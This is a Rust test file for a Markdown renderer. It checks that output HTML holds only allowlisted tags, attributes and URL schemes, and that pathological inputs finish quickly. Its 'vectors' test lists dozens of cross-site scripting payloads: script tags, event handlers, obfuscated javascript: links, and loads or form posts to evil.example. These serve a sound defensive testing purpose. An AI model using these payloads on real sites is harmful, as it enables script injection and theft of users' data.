//! Sources that want a script, a style or another site in the page, or to exhaust the machine.

use super::*;

const NAMES: &[&str] = &[
    "a",
    "aside",
    "b",
    "blockquote",
    "br",
    "code",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "rp",
    "rt",
    "ruby",
    "section",
    "span",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "time",
    "tr",
    "ul",
    "wbr",
];

const ATTRIBUTES: &[&str] = &[
    "alt",
    "aria-label",
    "class",
    "data-label",
    "decoding",
    "height",
    "href",
    "id",
    "loading",
    "rel",
    "role",
    "scope",
    "sizes",
    "src",
    "srcset",
    "start",
    "tabindex",
    "title",
    "width",
];

/// Asserts that every tag and attribute is one of ours and every address leads where it may.
pub(super) fn assert_harmless(html: &str) {
    for tag in tags(html) {
        assert!(NAMES.contains(&tag.name.as_str()), "<{}> in {html}", tag.name);
        for (key, value) in &tag.attributes {
            assert!(ATTRIBUTES.contains(&key.as_str()), "{key} in {html}");
            let safe = ["https://", "http://", "HTTP", "mailto:", "tel:", "#", "../", "files/", "x/"];
            if key == "href" || key == "src" {
                assert!(safe.iter().any(|start| value.starts_with(start)), "{key}={value} in {html}");
            }
        }
    }
}

#[test]
fn vectors() {
    let vectors = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script\n>alert(1)</script\n>",
        "a <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "- <script>alert(1)</script>",
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<object data=x></object><embed src=x>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example>",
        "<form action=//evil.example><input name=x></form>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<sub onclick=alert(1)>x</sub>",
        "<br onmouseover=alert(1)>",
        "<kbd style=\"position:fixed\">x</kbd>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<!--><script>alert(1)</script>-->",
        "<!---><script>alert(1)</script>",
        "<!-- a --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "<!DOCTYPE x><script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java&#10;script:alert(1))",
        "[x](java&Tab;script:alert(1))",
        "[x](&#1;javascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](\\javascript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](blob:https://a.cn/x)",
        "[x](view-source:x)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![x\" onerror=\"alert(1)](a.png)",
        "![x](a.png \"y\\\" onload=\\\"alert(1)\")",
        "[x](capture \"y\\\" onclick=\\\"alert(1)\")",
        "[x](https://a.cn/\"onclick=\"alert(1))",
        "https://a.cn/\"onclick=\"alert(1)",
        "https://a.cn/'onclick='alert(1)",
        "www.a.cn/<script>alert(1)</script>",
        "a@b.cn\"onclick=\"alert(1)",
        "# x {onclick=alert(1)}",
        "# x {#a\"onclick=\"alert(1)}",
        "# x {.a\"><script>alert(1)</script>}",
        "# <script>alert(1)</script>",
        "```\"><script>alert(1)</script>\nx\n```",
        "```js\" onclick=\"alert(1)\nx\n```",
        "`<script>alert(1)</script>`",
        "x[^\"><script>]\n\n[^\"><script>]: y",
        "| \"><script>alert(1)</script> |\n|---|\n| x |",
        "{{ <script>alert(1)</script> }}",
        "{{ nope \"<script>alert(1)</script>\" }}",
        "{{ nope <img src=x onerror=alert(1)> }}",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\u{FDD1}<script>alert(1)</script>\u{FDD0}",
        "<scr\u{FDD0}ipt>alert(1)</scr\u{0}ipt>",
        "**<scr**ipt>alert(1)</script>",
        "[<script>alert(1)</script>](capture)",
        "[x](//evil.example\\@a.cn)",
        "[x](/\\evil.example)",
    ];
    assert!(vectors.len() >= 40);
    for vector in vectors {
        for source in [vector.to_owned(), format!("请看\n\n{vector}\n\n**完：**了"), format!("- a\n  {vector}\n")]
        {
            for lang in Lang::ALL {
                let html = rendered(&source, lang).html;
                assert_harmless(&html);
                assert_balanced(&html);
                assert!(!html.to_ascii_lowercase().contains("<script"), "{source}");
            }
        }
    }
}

#[test]
fn entities_cannot_spell_our_own_characters() {
    let result = rendered("{{ date }} &#xFDD1; &#xFDD0;x&#x1BC9F; [a](&#xFDD1;) `&#xFDD1;` &#1;", Lang::Zh);
    assert_eq!(result.html.matches("<time>").count(), 1);
    assert!(!result.html.contains(|c: char| characters::is_own(c) || characters::is_forbidden(c)), "{}", result.html);
    assert!(!result.plain.contains(|c: char| characters::is_own(c) || characters::is_forbidden(c)));
}

/// Sources whose naive treatment squares in time or recurses. Run in a debug build they must still end at once.
#[test]
fn exhausting_sources() {
    const N: usize = 5_000;
    let sources = [
        ">".repeat(N) + "a",
        "- ".repeat(N) + "a",
        "1. ".repeat(N) + "a",
        "> - ".repeat(N) + "a",
        "[".repeat(N),
        "![".repeat(N) + "a" + &"](b)".repeat(N),
        "[".repeat(N) + "a" + &"](b)".repeat(N),
        "*".repeat(N) + "a",
        "**a *b ".repeat(N),
        "请**（".repeat(N) + &"）**请".repeat(N),
        "*a **a ".repeat(N / 2) + &"b** b*".repeat(N / 2),
        "{{ a ".repeat(N),
        "{{ a “}} ".repeat(N),
        "{{ a \" ".repeat(N) + "}}",
        "{{ date }}".repeat(N),
        "{{".repeat(N),
        "<sub>".repeat(N) + "a" + &"</sub>".repeat(N),
        "<sub><kbd>".repeat(N) + &"</sub>".repeat(N),
        "<div>".repeat(N),
        "<!-- ".repeat(N),
        "a<!--".repeat(N),
        "http://".repeat(N),
        "www.".repeat(N),
        "(www.".repeat(N),
        "http://a.cn/(".repeat(N),
        "a@".repeat(N),
        "a.".repeat(N) + "@b",
        "[^1]".repeat(N) + "\n\n[^1]: x",
        (0..N).map(|i| format!("[^{i}]: [^{}]\n", i + 1)).collect(),
        "# a\n".repeat(N),
        "# a {#a}\n".repeat(N),
        "[x](#y)\n".repeat(N) + &"# yy\n".repeat(N),
        "|a".repeat(500) + "\n" + &"|-".repeat(500) + "\n" + &"|x\n".repeat(500),
        "a\n".repeat(N),
        "`".repeat(N) + "a",
        "\\".repeat(N),
        "~~".repeat(N) + "a",
        "<br>\n".repeat(N),
        "[^".repeat(N),
        "** ".repeat(N),
        "}\n".repeat(N),
        "{".repeat(N) + "}",
        "a\n: b\n".repeat(N),
    ];
    for source in sources {
        let started = std::time::Instant::now();
        let result = rendered(&source, Lang::Zh);
        assert_balanced(&result.html);
        assert!(started.elapsed().as_secs() < 20, "{}", &source[..source.len().min(30)]);
    }
}

#[test]
fn deep_nesting_is_flattened_and_reported() {
    for source in [">".repeat(200) + "a", "- ".repeat(200) + "a", "> * ".repeat(200) + "a"] {
        let result = rendered(&source, Lang::Zh);
        assert_eq!(result.findings.iter().filter(|finding| finding.kind == FindingKind::TooDeep).count(), 1);
        assert_eq!(result.plain, "a");
        assert_balanced(&result.html);
        assert!(result.html.matches('<').count() < 120);
    }
}
